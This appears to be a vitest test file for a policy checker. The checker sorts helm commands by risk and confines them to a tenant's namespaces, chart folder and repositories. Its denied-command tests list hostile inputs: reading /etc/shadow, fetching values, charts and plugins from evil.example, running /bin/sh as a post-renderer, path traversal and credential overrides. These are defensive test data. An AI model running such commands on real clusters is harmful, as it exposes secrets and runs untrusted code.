// What the grammar of helm makes of commands, and what it never runs.
import { describe, expect, test } from 'vitest'
import type { Class, Mark } from '../../../src/policy/verdict.ts'
import { createHelmProvider } from '../../../src/providers/helm.ts'
import { commandOf } from '../../kubernetes/cluster.ts'

const provider = createHelmProvider({ now: () => 0, directories: [] })
const connected = { name: 'prod', kubeconfig: '/srv/kubeconfig', namespaces: ['shop'] }
const examine = (text: string, settings: object = {}) =>
  provider.examine({ ...commandOf(text), settings: { ...settings } })

function each(rows: [command: string, because: string][], expected: Class, marks: Mark[] = []): void {
  test.each(rows)('%s', (command, because) => {
    const examined = examine(command)

    expect(examined).toMatchObject({ class: expected, marks })
    expect(examined.reasons.join(' ')).toContain(because)
  })
}

describe('looking is read-only', () => {
  each(
    [
      ['helm list -A --deployed -o json', 'releases'],
      ['helm -n shop ls -q', 'releases'],
      ['helm status web --revision 2', 'state'],
      ['helm history web --max=5', 'revisions'],
      ['helm get notes web', 'notes'],
      ['helm get metadata web', 'made of'],
      ['helm show values ./web', 'values of a chart'],
      ['helm template web ./web -f values.yaml --set a=b', 'renders'],
      ['helm lint web --strict', 'checks'],
      ['helm search repo nginx -l', 'repositories'],
      ['helm version --short', 'versions'],
    ],
    'read-only',
  )
  each(
    [
      ['helm get values web -a', 'credentials'],
      ['helm get manifest web', 'secrets'],
      ['helm get all web', 'everything'],
      ['helm get hooks web', 'values'],
    ],
    'read-only',
    ['sensitive'],
  )
})

describe('changing needs approval', () => {
  each(
    [
      ['helm install web ./web -f values.yaml --wait --timeout 5m', 'makes'],
      ['helm upgrade --install web ./chart --reuse-values --atomic', 'changes'],
      ['helm rollback web 3', 'earlier revision'],
      ['helm test web --logs', 'test'],
      ['helm uninstall web --dry-run=client', 'deletes'],
    ],
    'mutating',
  )
  each(
    [
      ['helm install web bitnami/nginx', 'repository'],
      ['helm show chart bitnami/nginx', 'repository'],
      ['helm frobnicate', 'known verbs'],
    ],
    'mutating',
    ['unknown'],
  )
  each(
    [
      ['helm uninstall web db', 'deletes'],
      ['helm delete web', 'deletes'],
      ['helm upgrade web ./web --force', 'made anew'],
      ['helm upgrade web ./web --force-replace', 'made anew'],
      ['helm install web ./web --take-ownership', 'takes objects'],
    ],
    'destructive',
  )
})

describe('what is never run', () => {
  each(
    [
      ['helm list --kube-apiserver https://evil.example --kube-token x', 'set by the tenant'],
      ['helm list --kube-as-user admin', 'set by the tenant'],
      ['helm list --kube-conte prod', 'abbreviates'],
      ['helm list --kubeconfig=/x', 'set by the tenant'],
      ['helm install web ./web --post-renderer /bin/sh', 'runs a program'],
      ['helm install web ./web --set-file a=/etc/shadow', 'reads a file'],
      ['helm install web ./web -f /etc/shadow', 'own machine'],
      ['helm install web ./web --values https://evil.example/v.yaml', 'address'],
      ['helm install web ./web --enable-dns', 'ask the network'],
      ['helm template web ./web --output-dir /tmp', 'writes files'],
      ['helm install web ../../etc', 'own machine'],
      ['helm install web /srv/chart', 'own machine'],
      ['helm show values ./../../etc', 'own machine'],
      ['helm install web oci://evil.example/web', 'not among the tenant’s repositories'],
      ['helm install web https://evil.example/web-1.tgz', 'not among'],
      ['helm install web nginx --repo https://evil.example', 'not among'],
      ['helm install web ./web --username a --password b', 'where charts come from'],
      ['helm list --repository-config=/x', 'where charts come from'],
      ['helm plugin install https://evil.example/p', 'own machine'],
      ['helm env', 'token'],
      ['helm repo add evil https://evil.example', 'an admin'],
      ['helm registry login evil.example', 'an admin'],
      ['helm pull bitnami/nginx', 'an admin'],
      ['helm dependency update ./web', 'an admin'],
      ['helm search hub nginx', 'outside the tenant'],
      ['helm list | xargs helm uninstall', 'xargs'],
    ],
    'denied',
  )
})

describe('in a tenant', () => {
  const withCharts = {
    ...connected,
    charts: '/srv/charts',
    repositories: { acme: 'https://charts.acme.example', images: 'oci://registry.example/charts' },
  }

  test('namespaces are its own', () => {
    expect(examine('helm list -n other', connected).reasons[0]).toContain('`other` is not the tenant’s')
    expect(examine('helm list -A', connected).class).toBe('denied')
    expect(examine('helm list', connected)).toMatchObject({
      class: 'read-only',
      target: 'cluster prod, namespace shop, as viewer',
    })
  })

  test('charts come from its folder and its repositories alone', () => {
    expect(examine('helm install web ./web', connected).reasons[0]).toContain('an admin sets `charts`')
    expect(examine('helm install web ./web', withCharts).class).toBe('mutating')
    expect(examine('helm install web acme/web', withCharts).class).toBe('mutating')
    expect(examine('helm install web bitnami/nginx', withCharts).reasons[0]).toContain(
      'There is: acme, images',
    )
    expect(examine('helm install web oci://registry.example/charts/web', withCharts).class).toBe('mutating')
    expect(examine('helm install web oci://registry.example/charts-evil/web', withCharts).class).toBe(
      'denied',
    )
    expect(examine('helm install web oci://registry.example/charts/../x', withCharts).class).toBe('denied')
  })

  test('releases and values are named', () => {
    expect(examine('helm upgrade web ./web -f a.yaml,b.yaml')).toMatchObject({
      objects: ['releases/web'],
      files: ['a.yaml', 'b.yaml'],
    })
    expect(examine('helm uninstall web db').objects).toEqual(['releases/web', 'releases/db'])
    expect(examine('helm install ./web --generate-name').objects).toEqual([])
  })

  test('faults of its settings are told with their mend', () => {
    const read = provider.readSettings({
      kubeconfig: '/k',
      namespaces: 'shop',
      repositories: '{"x":"ftp://y"}',
    })

    expect(read).toMatchObject({ isRead: false, faults: [expect.stringContaining('https:// or oci://')] })
  })
})
